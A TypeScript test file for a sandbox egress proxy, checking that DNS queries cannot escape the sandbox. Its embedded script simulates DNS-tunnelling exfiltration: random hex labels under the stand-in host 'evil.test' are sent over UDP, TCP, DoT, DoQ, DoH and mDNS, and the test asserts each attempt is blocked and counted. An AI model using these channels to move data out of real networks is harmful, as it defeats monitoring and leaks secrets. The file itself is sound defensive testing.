// What a sandbox asks of DNS, in every way there is: answered where it may be, counted where it may not, and never heard of outside. What
// clients do with the answers is in clients.test.ts.
import { copyFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import t from 'tap';
import { needs } from '../helpers/needs.ts';
import { makeWorld } from './world.ts';

const wanted = [
  'root',
  'netns',
  'nft',
  'ip',
  'curl',
  'git',
  'nc',
  'openssl',
  'tcpdump',
  'setpriv',
  'unshare',
  'nsenter',
];

// A slow machine is no failure.
t.setTimeout(300_000);

/** The names of a policy that also allows a second port. */
const policy = {
  version: 1,
  allow: [
    { id: 'allow/good.test', host: 'good.test', ports: [443, 8443], reason: 'the origin of the test' },
    { id: 'allow/nowhere.test', host: 'nowhere.test', reason: 'a name that the hosts file does not have' },
  ],
};

/**
 * Asks in every way there is, from inside. Each line it prints is one way and what came of it: a code of DNS, an error of the system, or
 * `silence`.
 */
const askingCode = `
const dgram = require('node:dgram'), net = require('node:net'), tls = require('node:tls'), [, , proxy, outside] = process.argv
const secret = Array.from({ length: 4 }, () => require('node:crypto').randomBytes(24).toString('hex')).join('.') + '.evil.test'
const query = (name, type) => Buffer.concat([Buffer.from([0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]),
  ...name.split('.').map(label => Buffer.from([label.length, ...Buffer.from(label)])), Buffer.from([0, type >> 8, type & 255, 0, 1])])
const within = work => Promise.race([work, new Promise(done => setTimeout(done, 700, 'silence'))])
const udp = (address, port, bytes) => within(new Promise(done => {
  const socket = dgram.createSocket('udp4')
  socket.on('error', error => done(error.code)).on('message', answer => done('code ' + (answer[3] & 15) + ', answers ' + answer[7]))
  socket.send(bytes, port, address, error => error && done(error.code))
}))
const tcp = (address, port, bytes) => within(new Promise(done => {
  const socket = net.connect(port, address, () => socket.write(Buffer.concat([Buffer.from([0, bytes.length]), bytes])))
  socket.on('error', error => done(error.code)).on('data', answer => done('code ' + (answer[5] & 15) + ', answers ' + answer[9]))
}))
const secure = (address, port, servername) => within(new Promise(done => {
  const socket = tls.connect({ host: address, port, servername, rejectUnauthorized: false }, () => done('CONNECTED'))
  socket.on('error', error => done(error.code))
}))
;(async () => {
  for (const [what, work] of Object.entries({
    'a long name': () => udp(proxy, 53, query(secret, 1)),
    'a long name over TCP': () => tcp(proxy, 53, query(secret, 1)),
    'its text': () => udp(proxy, 53, query(secret, 16)),
    'its NULL record': () => udp(proxy, 53, query(secret, 10)),
    'ANY': () => udp(proxy, 53, query('nowhere.test', 255)),
    'an allowed name that nobody has looked up': () => udp(proxy, 53, query('nowhere.test', 1)),
    'its text, too': () => udp(proxy, 53, query('nowhere.test', 16)),
    'the resolver of a container engine': () => udp('127.0.0.11', 53, query(secret, 1)),
    'DNS elsewhere': () => udp(outside, 53, query(secret, 1)),
    'DNS elsewhere over TCP': () => tcp(outside, 53, query(secret, 1)),
    'DoT': () => secure(proxy, 853, 'dns.evil.test'),
    'DoT elsewhere': () => secure(outside, 853, 'dns.evil.test'),
    'DoQ': () => udp(proxy, 853, query(secret, 1)),
    'mDNS': () => udp('224.0.0.251', 5353, query('x.local', 1)),
    'DoH': () => secure(proxy, 443, 'dns.evil.test'),
    'DoH elsewhere': () => secure(outside, 443, 'dns.evil.test'),
  })) console.log(what + ': ' + await work())
  console.log('asked')
})()
setInterval(() => {}, 1000)
`;

t.test('without a proxy variable', { skip: needs(t, wanted) }, async (t) => {
  const world = await makeWorld(t);
  const file = join(world.dir, 'steer.json');
  writeFileSync(file, JSON.stringify(policy));
  copyFileSync(process.execPath, join(world.workspace, 'node'));
  const bare = ['--policy', file, '--workspace', world.workspace, '--wiring', 'transparent'];

  t.test('no question of any kind leaves, and each is counted where it ended', async (t) => {
    writeFileSync(join(world.workspace, 'ask.cjs'), askingCode);
    const script = [
      'unset NODE_OPTIONS',
      'read -r _ A </etc/resolv.conf',
      `exec /workspace/node /workspace/ask.cjs $A ${world.address}`,
    ];
    const capture = await world.capture();
    const named = world.name('asking');
    const run = world.start(
      [...bare, '--name', named, '--metrics', '10.98.0.1:9191'],
      ['sh', '-c', script.join('; ')],
    );
    await run.line('asked');
    const metrics = await world.host.must(['curl', '-sS', '--noproxy', '*', 'http://10.98.0.1:9191/metrics']);
    const drops = await world.drops(named);
    run.child.kill('SIGTERM');
    await run.ended;
    const said = new Map(
      run.lines
        .filter((line) => /^[\w ,]+: /.test(line))
        .map((line) => line.split(': ', 2) as [string, string]),
    );
    const told = (what: string): string => said.get(what) ?? 'nothing';
    for (const what of ['a long name', 'a long name over TCP', 'its text', 'its NULL record'])
      t.equal(told(what), 'code 3, answers 0', what);
    t.equal(told('ANY'), 'code 5, answers 0');
    t.equal(told('an allowed name that nobody has looked up'), 'code 0, answers 1');
    t.equal(told('its text, too'), 'code 0, answers 0');
    t.notMatch(told('the resolver of a container engine'), /code|nothing/);
    for (const what of ['DoT', 'DoQ']) t.equal(told(what), 'silence', what);
    for (const what of ['DNS elsewhere', 'DNS elsewhere over TCP', 'DoT elsewhere', 'mDNS', 'DoH elsewhere'])
      t.equal(told(what), 'ENETUNREACH', what);
    t.match(told('DoH'), /ALERT/);
    t.match(metrics, /sallyport_dns_answers_total\{answer="nxdomain"\} 4\n/);
    t.match(metrics, /sallyport_dns_answers_total\{answer="refused"\} 1\n/);
    t.match(metrics, /sallyport_dns_answers_total\{answer="address"\} 1\n/);
    t.match(metrics, /decisions_total\{verdict="deny",reason="no_rule_matched",mode="transparent"\} 1\n/);
    t.ok((drops.get('dns') ?? 0) >= 2, 'the fence counted DoT and DoQ');
    t.match(run.lines.at(-1), /denied \d+: .*evil\.test no_rule_matched/);
    // The control: a question of the host itself is seen.
    await world.host.run(['sh', '-c', `echo | nc -u -w1 ${world.address} 53`]);
    const packets = await capture.stop();
    t.ok(packets.length > 0 && packets.every((line) => line.includes(' 10.98.0.1.')), packets.join('\n'));
  });
});
